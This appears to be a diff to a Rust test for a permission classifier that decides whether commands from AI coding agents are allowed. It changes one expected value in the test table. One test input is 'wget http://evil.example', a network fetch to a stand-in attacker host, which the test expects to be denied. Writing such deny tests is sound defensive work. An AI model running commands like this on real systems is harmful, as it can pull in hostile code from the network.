@@ -190,7 +190,7 @@ fn auto_deny_and_explicit_mappings() {
         (
             "deny codex",
             codex_cmd("wget http://evil.example"),
-            Want(Deny, NetworkAccess, false, ClassPolicy, "n"),
+            Want(Deny, NetworkAccess, false, ClassPolicy, "\u{1b}"),
         ),
         (
             "deny gemini",
